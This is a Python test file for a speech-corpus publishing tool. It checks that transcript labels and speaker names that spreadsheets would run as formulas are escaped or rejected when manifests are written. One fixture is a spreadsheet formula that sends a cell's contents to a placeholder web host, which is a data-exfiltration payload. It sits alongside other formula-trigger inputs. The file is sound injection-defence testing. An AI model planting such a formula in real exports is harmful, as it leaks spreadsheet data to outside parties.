"""Cells of the published table that spreadsheets would compute."""

import csv
from pathlib import Path

import pytest

from voicenym.corpus.recording import Recording
from voicenym.errors import CorpusError
from voicenym.publication.data_labels import entries
from voicenym.publication.published_manifests import METADATA, write_csv, write_kaldi
from voicenym.publication.verified_files import Verified

FORMULA = '=WEBSERVICE("https://example.org/?" & A1)'


def files(text, speaker="ann"):
    recording = Recording(f"{speaker}/u1", speaker, Path(f"/corpus/{speaker}/u1.wav"), text=text)
    return [Verified(recording, "0" * 64, 10, 1.0, 16000, 1, -20.0, False, False)]


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@A1", "\t=1"])
def test_a_label_is_no_formula_in_the_table_and_as_it_was_elsewhere(text, tmp_path):
    found = entries(files(text), ["text"])
    write_csv(tmp_path, found)
    with (tmp_path / METADATA).open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["text"] == f"'{text}"
    assert found[0].row()["text"] == text
    if text.isprintable():
        (tmp_path / "kaldi").mkdir()
        write_kaldi(tmp_path, found)
        assert (tmp_path / "kaldi" / "text").read_text("utf-8") == f"ann-u1 {text}\n"


def test_words_stay_as_they_are(tmp_path):
    write_csv(tmp_path, entries(files("it's 5 - 3 = 2"), ["text"]))
    assert "it's 5 - 3 = 2" in (tmp_path / METADATA).read_text("utf-8")


@pytest.mark.parametrize("speaker", ["=1+1", "-rf", "@SUM(A1)"])
def test_a_name_that_is_a_formula_is_refused(speaker):
    with pytest.raises(CorpusError, match="take for a formula"):
        entries(files("", speaker), [])


def test_a_label_with_a_carriage_return_stays_in_its_row(tmp_path):
    write_csv(tmp_path, entries(files("one\rtwo"), ["text"]))
    with (tmp_path / METADATA).open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["text"] == "one\ntwo"
